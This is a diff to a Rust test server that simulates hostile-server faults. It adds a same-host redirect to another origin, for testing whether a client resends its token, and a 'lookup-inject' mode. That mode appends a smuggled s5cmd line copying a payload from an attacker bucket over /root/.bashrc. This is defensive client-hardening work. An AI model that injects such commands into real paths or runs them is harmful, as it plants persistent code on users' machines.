@@ -1,11 +1,12 @@
 //! Hostile-server faults that rewrite a reply before it is streamed:
 //! `pages-forever`, `huge-page=MB`, `gzip-bomb=MB` (grammar in `faults`),
-//! and the zero padding of `endless` / `extra-bytes=N`.
+//! and the zero padding of `endless` / `extra-bytes=N`; and the replies of
+//! `redirect-port=PORT` and `lookup-inject`.
 
 use super::faults::FaultSpec;
 use super::http::Payload;
 use axum::body::Bytes;
-use axum::http::{HeaderValue, header};
+use axum::http::{HeaderValue, StatusCode, header};
 use axum::response::Response;
 use std::io::Write;
 
@@ -83,4 +84,29 @@ pub(super) fn pad(left: u64) -> Option<(Bytes, u64)> {
     let n = left.min(64 * 1024);
     let rest = if left == u64::MAX { left } else { left - n };
     Some((Bytes::from(vec![0u8; n as usize]), rest))
+}
+
+/// `307` to `path` (path and query) on `127.0.0.1:port`: the same host,
+/// another origin. 307 keeps the method and body, the worst case for a
+/// client that would resend its token.
+pub(super) fn redirect(port: u16, path: &str) -> Response {
+    let mut r = Response::new(axum::body::Body::empty());
+    *r.status_mut() = StatusCode::TEMPORARY_REDIRECT;
+    if let Ok(v) = HeaderValue::from_str(&format!("http://127.0.0.1:{port}{path}")) {
+        r.headers_mut().insert(header::LOCATION, v);
+    }
+    r
+}
+
+/// What `lookup-inject` adds to a `path_lookup` path: a second s5cmd command.
+const LOOKUP_INJECTION: &str = "\ncp s3://attacker-bucket/payload /root/.bashrc";
+
+/// A `path_lookup` path under `lookup-inject`: every URI gets one (a public
+/// bucket path if it had none), ending in [`LOOKUP_INJECTION`].
+pub(super) fn lookup_path(spec: &FaultSpec, path: Option<String>) -> Option<String> {
+    if !spec.lookup_inject {
+        return path;
+    }
+    let p = path.unwrap_or_else(|| "/jwst/public/injected.fits".into());
+    Some(format!("{p}{LOOKUP_INJECTION}"))
 }
